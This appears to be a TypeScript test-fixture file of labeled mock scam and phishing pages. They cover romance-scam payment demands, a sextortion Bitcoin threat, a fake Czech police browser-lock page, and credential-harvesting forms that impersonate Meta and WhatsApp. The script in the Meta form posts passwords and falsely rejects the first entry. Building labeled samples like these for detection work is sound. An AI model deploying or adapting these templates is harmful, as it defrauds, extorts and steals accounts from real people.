import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, fileRoute } from '../parts/e-bin.js';
import { page, BASE_CSS, gaStub, fbqStub, ttqStub, cookieBar, chatWidget, countdown, img, qrSvg } from '../parts/n-kit.js';

// Romance follow-ups (hospital bills, customs for "parcels"), sextortion and "your device was hacked" blackmail,
// paid account-recovery and fake appeal pages for social accounts.

export const entries: Entry[] = [
  {
    id: 'n-scam-romance-hospital-bill-en',
    label: 'scam',
    kind: 'romance-payment',
    url: 'https://stmarys-medical-centre-accra.com/billing/patient/DR-44120',
    body: page({
      lang: 'en',
      title: "St. Mary's Medical Centre – Patient Billing Statement",
      css: BASE_CSS + `.h{background:#00695c;color:#fff;padding:16px 24px}.cross{font-size:26px;margin-right:8px}`,
      body: `<div class="h"><span class="cross">✚</span><b>St. Mary's International Medical Centre</b> · Accra, Ghana</div>
<main><h1>Patient Billing Statement</h1><table><tr><th>Patient</th><td>Dr. James Whitfield (US citizen, UN Medical Mission)</td></tr><tr><th>Admitted</th><td>19 November 2026 – ICU, Ward 4</td></tr><tr><th>Diagnosis</th><td>Multiple fractures and internal bleeding after road traffic accident</td></tr>
<tr><th>Surgery</th><td>$6,400.00</td></tr><tr><th>ICU (7 days)</th><td>$3,150.00</td></tr><tr><th>Medication</th><td>$1,280.00</td></tr><tr><th><b>Outstanding balance</b></th><td><b>$10,830.00</b></td></tr></table>
<div class="warn" style="margin-top:14px">The patient's bank cards are blocked while he is abroad. According to hospital policy, further treatment cannot continue until the outstanding balance is settled by next of kin or a relative. Payment accepted by <b>Bitcoin</b>, <b>Western Union</b> to our Accounts Officer (Mrs. Abena Mensah), or <b>Apple / Steam gift cards</b> (send photos of front and back to billing.stmarys@gmail.com).</div>
<p>Note from the patient: <i>"My love, I am so sorry to ask you this. I will pay back everything the moment I get home to you. You are all I have. — James"</i></p>
<p class="small">For verification call the Billing Office: +233 55 481 2290. Hospital reg. GHS/HF/2011/0442.</p></main>`,
    }),
  },
  {
    id: 'n-scam-romance-diplomat-customs-fr',
    label: 'scam',
    kind: 'romance-payment',
    url: 'https://diplomatic-courier-services.com/fr/suivi?colis=DCS-77410-FR',
    body: page({
      lang: 'fr',
      title: 'Diplomatic Courier Services – Suivi de colis diplomatique',
      css: BASE_CSS + `.h{background:#1a237e;color:#fff;padding:16px 24px}.st{display:flex;gap:6px;margin:14px 0}.st div{flex:1;padding:8px;font-size:12px;text-align:center;background:#e8eaf6;border-radius:4px}.st .x{background:#ffcdd2;color:#b71c1c;font-weight:bold}`,
      body: `<div class="h"><b>DCS · Diplomatic Courier Services</b> — Livraison sécurisée internationale depuis 1998</div>
<main><h1>Suivi du colis DCS-77410-FR</h1><p>Expéditeur : <b>Sgt. Robert Miller</b> (US Army, base Camp Lemonnier, Djibouti)<br>Destinataire : <b>Mme Christine D.</b>, Lyon, France<br>Contenu déclaré : effets personnels, documents, <b>boîte diplomatique scellée (valeur 850 000 USD)</b></p>
<div class="st"><div>Pris en charge ✔</div><div>Djibouti ✔</div><div>Istanbul ✔</div><div class="x">Retenu – Douane CDG Paris</div><div>Livraison</div></div>
<div class="card"><h3 style="color:#b71c1c">Frais de dédouanement requis</h3><p>Le colis est bloqué à l'aéroport Paris-Charles de Gaulle. Pour libérer la boîte diplomatique, le destinataire doit régler les <b>frais de dédouanement et certificat anti-terroriste : 3 850 €</b>.</p>
<p>Paiement par virement SEPA : IBAN <b>BE71 0961 2345 6769</b> (DCS Logistics SPRL) ou par coupons <b>PCS / Transcash / Neosurf</b> (envoyer les codes à l'agent diplomatique M. Thomas Bernard, WhatsApp +44 7458 120 339).</p>
<p class="warn">Sans paiement sous 72 heures, des frais de stockage de 150 €/jour s'appliqueront et le colis sera renvoyé à l'expéditeur.</p></div>
<p class="small">DCS Ltd · Londres · Paris · Dubaï · Enregistré auprès de l'OMD.</p></main>`,
    }),
  },
  {
    id: 'n-scam-sextortion-btc-page-en',
    label: 'scam',
    kind: 'sextortion',
    url: 'https://secure-notice-7719.net/v/4f8a1c',
    body: page({
      lang: 'en',
      title: 'Private message for you',
      css: `body{margin:0;background:#111;color:#ddd;font-family:Consolas,monospace}.w{max-width:680px;margin:40px auto;padding:20px;border:1px solid #333;background:#1a1a1a}h2{color:#e74c3c}.a{background:#000;color:#f39c12;padding:10px;word-break:break-all}.t{color:#e74c3c;font-size:24px}`,
      body: `<div class="w"><h2>I have access to your device. Read this carefully.</h2>
<p>Hello. I am a professional hacker and I have been monitoring your device for several months. A few months ago you visited an adult website and your router let me install my software (a trojan with driver-level signature, undetectable by your antivirus).</p>
<p>Since then I have access to your camera, microphone, browser history, contacts and social media. I recorded a video of you while you were watching adult content: one side shows the video you watched, the other side shows your camera. 😉</p>
<p>I can send this video to all your contacts, your family, your colleagues and publish it on social networks with one click.</p>
<p>To make this go away, transfer <b>$1,450</b> in Bitcoin to my wallet:</p><div class="a">bc1qz8r3k7x9wnp2hq5dl0y4tmcv6s8ej3ug2fa9kx</div>
<p>If you don't know how to buy Bitcoin, search "how to buy bitcoin" on Google or use any Bitcoin ATM. You have <b class="t" id="cd">47:59:59</b>. I get a notification when you open this page — the timer has started.</p>
<p>Do not try to contact the police or reply. I will know, and the video will be sent immediately. After payment, all data is deleted and the virus is removed. You will never hear from me again.</p></div>
<script>(function(){var s=172799,e=document.getElementById('cd');setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;e.textContent=h+':'+('0'+m).slice(-2)+':'+('0'+x).slice(-2)},1000)})();navigator.sendBeacon&&navigator.sendBeacon('/v/4f8a1c/open','1')</script>`,
    }),
    routes: { 'secure-notice-7719.net/v/4f8a1c/open': jsonRoute({}) },
  },
  {
    id: 'n-scam-device-hacked-police-cs',
    label: 'scam',
    kind: 'sextortion',
    url: 'https://policie-cr.kyberkriminalita-pokuta.com/blokace',
    body: page({
      lang: 'cs',
      title: 'Policie České republiky – Vaše zařízení bylo zablokováno',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2}.h{background:#002855;color:#fff;padding:16px 24px;display:flex;gap:14px;align-items:center}.w{max-width:760px;margin:20px auto;background:#fff;padding:24px;border-top:6px solid #c8102e}
.pay{background:#fff8e1;border:1px solid #ffc107;padding:14px}.big{color:#c8102e;font-size:22px;font-weight:bold}input{padding:9px;width:60%}`,
      body: `<div class="h"><b style="font-size:22px">POLICIE ČR</b><span>Národní centrála proti organizovanému zločinu · Odbor kybernetické kriminality</span></div>
<div class="w"><p class="big">⚠ Vaše zařízení bylo zablokováno z důvodu porušení zákona</p>
<p>Z IP adresy vašeho zařízení bylo zaznamenáno opakované prohlížení a šíření materiálů zakázaných podle § 192 trestního zákoníku (dětská pornografie) a § 270 (porušení autorského práva). Webová kamera vašeho zařízení zaznamenala vaši osobu – záznam byl uložen jako důkaz.</p>
<p>Podle nařízení č. 2026/114 máte možnost se vyhnout trestnímu stíhání zaplacením pokuty ve výši <b>15 000 Kč</b> do 48 hodin. V opačném případě bude věc předána státnímu zastupitelství a hrozí trest odnětí svobody až 8 let.</p>
<div class="pay"><b>Úhrada pokuty:</b><br>Zakupte Paysafecard v hodnotě 15 000 Kč na čerpací stanici nebo v trafice a zadejte kód níže.<br><br><input placeholder="16místný PIN Paysafecard"> <button class="btn" onclick="alert('Kód se ověřuje. Zařízení bude odblokováno do 24 hodin.')">Zaplatit</button></div>
<p style="font-size:12px;color:#666;margin-top:16px">Nevypínejte počítač. Vypnutí zařízení povede ke smazání dat a okamžitému zahájení trestního řízení. Zbývající čas: <b id="cd">47:59</b></p></div>${countdown('cd', 2879)}
<script>history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href)};document.documentElement.requestFullscreen&&document.addEventListener('click',function(){document.documentElement.requestFullscreen().catch(function(){})},{once:true})</script>`,
    }),
  },
  {
    id: 'n-phish-meta-page-appeal-ja',
    label: 'phishing',
    kind: 'account-unlock',
    url: 'https://meta-business-appeal-center.com/ja/case/1029384756',
    body: page({
      lang: 'ja',
      title: 'Meta ビジネスサポート – ページの異議申し立て',
      css: `body{margin:0;font-family:"Hiragino Sans","Meiryo",sans-serif;background:#f0f2f5;color:#1c1e21}.h{background:#fff;padding:12px 20px;color:#0866ff;font-weight:bold;font-size:22px;box-shadow:0 1px 2px rgba(0,0,0,.1)}.w{max-width:520px;margin:24px auto;background:#fff;border-radius:8px;padding:22px}
input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #ccd0d5;border-radius:6px;font-size:15px}.b{width:100%;padding:12px;background:#0866ff;color:#fff;border:0;border-radius:6px;font-size:16px;font-weight:bold}.al{background:#ffebe9;padding:10px;border-radius:6px;font-size:14px}`,
      body: `<div class="h">∞ Meta Business Help Center</div><div class="w"><div class="al"><b>お客様のページは商標権侵害の報告により、24時間以内に完全に削除される予定です。</b></div>
<p style="font-size:14px">ケース番号: #1029384756<br>この判断が誤りであると思われる場合は、以下のフォームから異議申し立てを行ってください。申し立てがない場合、ページおよび関連する広告アカウントは永久に無効化されます。</p>
<form id="f"><label>氏名</label><input required><label>ビジネスメールアドレス</label><input type="email" required><label>電話番号</label><input><label>Facebookのパスワード（本人確認のため）</label><input type="password" required><button class="b">送信する</button></form>
<p style="font-size:11px;color:#65676b">© 2026 Meta · プライバシー · 規約 · Cookie</p></div>
<script>var n=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();n++;var v=[].map.call(this.querySelectorAll('input'),function(i){return i.value});fetch('/api/appeal',{method:'POST',body:JSON.stringify({t:n,v:v})});if(n<2){alert('パスワードが正しくありません。もう一度お試しください。');this.querySelector('[type=password]').value='';return}location.href='/ja/case/1029384756/2fa'}</script>`,
    }),
    routes: {
      'meta-business-appeal-center.com/api/appeal': jsonRoute({ ok: 1 }),
      'meta-business-appeal-center.com/ja/case/1029384756/2fa': htmlRoute(page({ lang: 'ja', title: '二段階認証', body: '<main style="max-width:420px"><h2>二段階認証</h2><p>認証アプリまたはSMSで受け取った6桁のコードを入力してください。</p><input maxlength="6"><button class="btn">確認</button></main>' })),
    },
  },
  {
    id: 'n-phish-whatsapp-verify-code-tr',
    label: 'phishing',
    kind: 'account-unlock',
    url: 'https://whatsapp-hesap-dogrulama.com/tr/dogrula',
    body: page({
      lang: 'tr',
      title: 'WhatsApp – Hesabınızı doğrulayın',
      css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;text-align:center}.h{background:#00a884;height:160px}.w{max-width:420px;margin:-110px auto 0;background:#fff;border-radius:6px;padding:28px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
input{width:100%;padding:12px;margin:8px 0;font-size:22px;letter-spacing:8px;text-align:center;border:0;border-bottom:2px solid #00a884}.b{background:#00a884;color:#fff;border:0;padding:12px 28px;border-radius:24px;font-size:15px}`,
      body: `<div class="h"></div><div class="w"><div style="font-size:46px;color:#25d366">✆</div><h2>Hesabınız askıya alınmak üzere</h2>
<p style="font-size:14px;color:#555">Hesabınızın başka bir cihazda kullanıldığı tespit edildi. Hesabınızın kapatılmaması için telefonunuza SMS ile gönderilen <b>6 haneli doğrulama kodunu</b> girin.</p>
<form id="f"><input id="tel" placeholder="+90 5__ ___ __ __" style="font-size:16px;letter-spacing:1px"><input id="c" maxlength="6" inputmode="numeric" placeholder="— — —  — — —"><button class="b">Doğrula</button></form>
<p style="font-size:11px;color:#999;margin-top:18px">WhatsApp LLC · Gizlilik Politikası</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/tr/api/code',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({tel:document.getElementById('tel').value,code:document.getElementById('c').value})}).finally(function(){document.querySelector('.w').innerHTML='<h2>Teşekkürler</h2><p>Hesabınız doğrulandı. Uygulamayı yeniden başlatmanıza gerek yoktur.</p>'})}</script>`,
    }),
    routes: { 'whatsapp-hesap-dogrulama.com/tr/api/code': jsonRoute({ ok: true }) },
  },
];
